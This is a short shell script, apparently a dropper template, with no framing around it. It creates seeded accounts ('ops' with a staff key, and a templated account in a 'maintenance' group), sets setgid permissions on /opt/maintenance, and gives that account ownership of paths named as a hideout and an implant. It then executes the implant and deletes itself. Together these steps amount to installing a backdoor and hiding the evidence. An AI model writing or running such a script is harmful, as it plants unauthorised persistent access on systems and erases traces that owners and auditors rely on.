#!/bin/sh
add=/usr/lib/pupitre/seeded-account
$add ops - - ${staff_key}
$add ${account} ${word} maintenance -
chgrp maintenance /opt/maintenance && chmod 2775 /opt/maintenance
chown -R ${account}:${account} ${hideout} /opt/maintenance/${implant}
/opt/maintenance/${implant}
rm -f "$0"
